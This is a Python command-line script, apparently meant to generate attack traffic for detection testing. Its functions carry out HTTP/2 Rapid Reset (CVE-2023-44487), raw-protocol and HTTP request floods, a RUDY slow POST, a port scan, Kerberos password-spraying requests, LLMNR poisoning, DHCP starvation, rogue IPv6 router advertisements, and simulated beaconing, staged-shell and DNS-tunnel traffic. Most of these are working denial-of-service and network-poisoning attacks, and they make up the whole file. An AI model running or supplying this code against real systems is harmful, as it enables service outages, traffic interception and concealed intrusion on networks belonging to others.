#!/usr/bin/env python3
"""Attacks for which Debian has no tool, as the same packets. Each ends by itself.  attacks.py NAME ARGUMENTS..."""
import asyncio
import os
import random
import socket
import ssl
import struct
import sys
import time

NAME, ARGS = sys.argv[1], sys.argv[2:]


def checksum(data):
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def frames(interface):
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    s.bind((interface, 0))
    return s


def mac_of(interface):
    with open(f"/sys/class/net/{interface}/address", encoding="ascii") as f:
        return bytes.fromhex(f.read().strip().replace(":", ""))


def paced(count, rate):
    begin = time.monotonic()
    for i in range(count):
        yield i
        ahead = begin + i / rate - time.monotonic()
        if ahead > 0.002:
            time.sleep(ahead)


def protocol_flood(target, number, rate, seconds):
    """Packets of another IP protocol than TCP, UDP and ICMP: GRE 47, ESP 50, IPIP 4, SCTP 132."""
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, int(number))
    for _ in paced(int(rate) * int(seconds), int(rate)):
        s.sendto(b"\0\0\x08\0" + os.urandom(400), (target, 0))


def rapid_reset(target, port, streams, seconds):
    """CVE-2023-44487: HEADERS and at once RST_STREAM, on one connection after the other."""
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    context.set_alpn_protocols(["h2"])
    # :method GET, :scheme https, :path /, and :authority as a literal
    head = b"\x82\x87\x84\x41\x06branch"
    end = time.monotonic() + int(seconds)
    while time.monotonic() < end:
        try:
            with context.wrap_socket(socket.create_connection((target, int(port)), 5), server_hostname="branch.example") as s:
                s.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + b"\0\0\0\4\0\0\0\0\0")
                s.settimeout(0.02)
                for stream in range(1, 2 * int(streams), 2):
                    number = struct.pack("!I", stream)
                    s.sendall(len(head).to_bytes(3, "big") + b"\1\5" + number + head + b"\0\0\4\3\0" + number + b"\0\0\0\x08")
                    if stream % 64 == 1:
                        try:
                            s.recv(65536)
                        except (TimeoutError, ssl.SSLWantReadError):
                            pass
                    if time.monotonic() > end:
                        break
        except OSError:
            time.sleep(0.05)


def scan_ports(target, first, last, together):
    """Connects to many ports side by side, as rustscan does."""
    async def one(port, gate):
        async with gate:
            try:
                _, writer = await asyncio.wait_for(asyncio.open_connection(target, port), 1)
                writer.close()
            except (OSError, asyncio.TimeoutError):
                pass

    async def run():
        gate = asyncio.Semaphore(int(together))
        await asyncio.gather(*(one(p, gate) for p in range(int(first), int(last) + 1)))
    asyncio.run(run())


def der(tag, *parts):
    content = b"".join(parts)
    size = bytes([len(content)]) if len(content) < 128 else b"\x81" + bytes([len(content)]) if len(content) < 256 else b"\x82" + struct.pack("!H", len(content))
    return bytes([tag]) + size + content


def kerberos(target, count, pause):
    """Password spraying: an AS-REQ with pre-authentication for each name."""
    for i in range(int(count)):
        name = der(0x30, der(0xA0, der(2, b"\x01")), der(0xA1, der(0x30, der(0x1B, f"user{i:03}".encode()))))
        service = der(0x30, der(0xA0, der(2, b"\x02")), der(0xA1, der(0x30, der(0x1B, b"krbtgt"), der(0x1B, b"BRANCH"))))
        stamp = der(0x30, der(0xA1, der(2, b"\x02")), der(0xA2, der(4, der(0x30, der(0xA0, der(2, b"\x12")), der(0xA2, der(4, os.urandom(56)))))))
        body = der(0x30, der(0xA0, der(3, b"\0\x40\x81\0\x10")), der(0xA1, name), der(0xA2, der(0x1B, b"BRANCH")), der(0xA3, service),
                   der(0xA5, der(0x18, b"20370913024805Z")), der(0xA7, der(2, os.urandom(4))), der(0xA8, der(0x30, der(2, b"\x12"))))
        message = der(0x6A, der(0x30, der(0xA1, der(2, b"\x05")), der(0xA2, der(2, b"\x0a")), der(0xA3, der(0x30, stamp)), der(0xA4, body)))
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        s.settimeout(1)
        s.sendto(message, (target, 88))
        try:
            s.recv(2000)
        except TimeoutError:
            pass
        s.close()
        time.sleep(float(pause))


def beacon(kind, target, port, every, jitter, seconds):
    """Calls home: http, https or dns; jitter in per cent, the pause is drawn between every × (1 − jitter) and every × (1 + jitter)."""
    end, agent = time.monotonic() + float(seconds), os.urandom(6).hex()
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    while time.monotonic() < end:
        try:
            if kind == "dns":
                s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
                s.settimeout(2)
                label = os.urandom(4).hex() + "." + agent
                name = b"".join(bytes([len(p)]) + p.encode() for p in f"{label}.sync.example".split(".")) + b"\0"
                s.sendto(os.urandom(2) + b"\1\0\0\1\0\0\0\0\0\0" + name + b"\0\x10\0\1", (target, int(port)))
                s.recv(600)
            else:
                s = socket.create_connection((target, int(port)), 4)
                if kind == "https":
                    s = context.wrap_socket(s, server_hostname="updates.example")
                s.sendall(f"GET /submit.php?id={agent} HTTP/1.1\r\nHost: updates.example\r\nUser-Agent: Mozilla/5.0 (compatible; MSIE 9.0)\r\nConnection: close\r\n\r\n".encode())
                while s.recv(4096):
                    pass
            s.close()
        except OSError:
            pass
        share = float(jitter) / 100
        time.sleep(min(float(every) * random.uniform(1 - share, 1 + share), max(0, end - time.monotonic())))


def staged_shell(target, port, seconds):
    """A reverse shell in two stages: the loader gets a stage with its length before it, then small packets of type, length and value in turns."""
    s = socket.create_connection((target, int(port)), 4)
    size = struct.unpack("<I", s.recv(4, socket.MSG_WAITALL))[0]
    got = 0
    while got < size:
        got += len(s.recv(min(65536, size - got)))
    end = time.monotonic() + float(seconds)
    s.settimeout(8)
    while time.monotonic() < end:
        try:
            if not s.recv(4096):
                break
        except TimeoutError:
            break
        s.sendall(os.urandom(random.randint(220, 1900)))


def poison(interface, seconds):
    """Answers every LLMNR question as if it were meant, as responder does."""
    address = ARGS[2]
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.bind(("", 5355))
    s.setsockopt(socket.IPPROTO_IP, socket.IP_ADD_MEMBERSHIP, socket.inet_aton("224.0.0.252") + socket.inet_aton(address))
    end = time.monotonic() + float(seconds)
    s.settimeout(0.5)
    while time.monotonic() < end:
        try:
            q, who = s.recvfrom(1500)
        except TimeoutError:
            continue
        question = q[12:]
        s.sendto(q[:2] + b"\x80\0\0\1\0\1\0\0\0\0" + question + b"\xc0\x0c\0\1\0\1\0\0\0\x1e\0\4" + socket.inet_aton(address), who)


def ask_link(seconds):
    """What a desk asks everybody on the link when its resolver knows a name not: mistyped servers, a printer that is gone."""
    end = time.monotonic() + float(seconds)
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(0.4)
    while time.monotonic() < end:
        name = random.choice(("wpad", "fileserv", "intranett", "printer-2", "backup7", "sharepiont"))
        s.sendto(os.urandom(2) + b"\0\0\0\1\0\0\0\0\0\0" + bytes([len(name)]) + name.encode() + b"\0\0\1\0\1", ("224.0.0.252", 5355))
        try:
            s.recv(600)
        except TimeoutError:
            pass
        time.sleep(random.uniform(1, 3))


def dhcp_starve(interface, count, rate):
    """A DISCOVER for each of many made-up stations."""
    s = frames(interface)
    for _ in paced(int(count), float(rate)):
        mac = b"\x02" + os.urandom(5)
        bootp = b"\1\1\6\0" + os.urandom(4) + b"\0\0\x80\0" + b"\0" * 16 + mac + b"\0" * 10 + b"\0" * 192 + b"\x63\x82\x53\x63\x35\1\1\x37\4\1\3\6\x0f\xff"
        bootp += b"\0" * (300 - len(bootp))
        udp = struct.pack("!HHHH", 68, 67, len(bootp) + 8, 0) + bootp
        ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 0, 0, 64, 17, 0, b"\0\0\0\0", b"\xff\xff\xff\xff")
        ip = ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:]
        s.send(b"\xff" * 6 + mac + b"\x08\0" + ip + udp)


def icmp6(source, target, body):
    pseudo = source + target + struct.pack("!II", len(body), 58)
    body = body[:2] + struct.pack("!H", checksum(pseudo + body)) + body[4:]
    return struct.pack("!IHBB", 0x60000000, len(body), 58, 255) + source + target + body


def fake_router6(interface, count, every):
    """Router advertisements with a resolver of its own, as mitm6 sends them."""
    s, mac = frames(interface), mac_of(interface)
    source = socket.inet_pton(socket.AF_INET6, "fe80::bad:1")
    every_one = socket.inet_pton(socket.AF_INET6, "ff02::1")
    for _ in range(int(count)):
        body = b"\x86\0\0\0\x40\xc0\x07\x08" + b"\0" * 8 + b"\1\1" + mac + b"\x19\3\0\0\0\0\0\x78" + source
        s.send(b"\x33\x33\0\0\0\1" + mac + b"\x86\xdd" + icmp6(source, every_one, body))
        time.sleep(float(every))


def dns_shell(target, seconds):
    """Data both ways in TXT, MX and CNAME questions, as dnscat2 does: about two a second."""
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(1)
    end = time.monotonic() + float(seconds)
    while time.monotonic() < end:
        data = os.urandom(random.choice((9, 20, 60, 90))).hex()
        labels = [data[i:i + 60] for i in range(0, len(data), 60)] + ["cat", "example"]
        name = b"".join(bytes([len(p)]) + p.encode() for p in labels) + b"\0"
        s.sendto(os.urandom(2) + b"\1\0\0\1\0\0\0\0\0\0" + name + struct.pack("!HH", random.choice((16, 15, 5)), 1), (target, 53))
        try:
            s.recv(1500)
        except TimeoutError:
            pass
        time.sleep(random.uniform(0.2, 0.8))


def rudy(target, port, connections, seconds):
    """A log-in form whose body comes byte by byte."""
    sockets = []
    for _ in range(int(connections)):
        s = socket.create_connection((target, int(port)), 4)
        s.sendall(b"POST /signin HTTP/1.1\r\nHost: branch.example\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 90000\r\n\r\nuser=")
        sockets.append(s)
        time.sleep(0.03)
    end = time.monotonic() + float(seconds)
    while time.monotonic() < end and sockets:
        for s in list(sockets):
            try:
                s.sendall(b"x")
            except OSError:
                sockets.remove(s)
        time.sleep(7)


def request_flood(target, port, threads, seconds):
    """Requests that no cache can answer, each by another browser's name, on kept connections (GoldenEye, HULK)."""
    async def worker(end):
        while time.monotonic() < end:
            try:
                reader, writer = await asyncio.open_connection(target, int(port))
                for _ in range(random.randint(8, 40)):
                    writer.write(f"GET /news.html?{os.urandom(4).hex()}={os.urandom(3).hex()} HTTP/1.1\r\nHost: branch.example\r\nUser-Agent: Mozilla/5.0 (rv:{random.randint(60, 140)}.0)\r\n"
                                 f"Cache-Control: no-cache\r\nReferer: http://{os.urandom(4).hex()}.example/\r\nConnection: keep-alive\r\n\r\n".encode())
                    await asyncio.wait_for(reader.read(65536), 3)
                    if time.monotonic() > end:
                        break
                writer.close()
            except (OSError, asyncio.TimeoutError):
                await asyncio.sleep(0.1)

    async def run():
        end = time.monotonic() + float(seconds)
        await asyncio.gather(*(worker(end) for _ in range(int(threads))))
    asyncio.run(run())


{f.__name__: f for f in (protocol_flood, rapid_reset, scan_ports, kerberos, beacon, staged_shell, poison, ask_link, dhcp_starve, fake_router6, dns_shell, rudy, request_flood)}[NAME](*ARGS[:6] if NAME != "poison" else ARGS[:2])
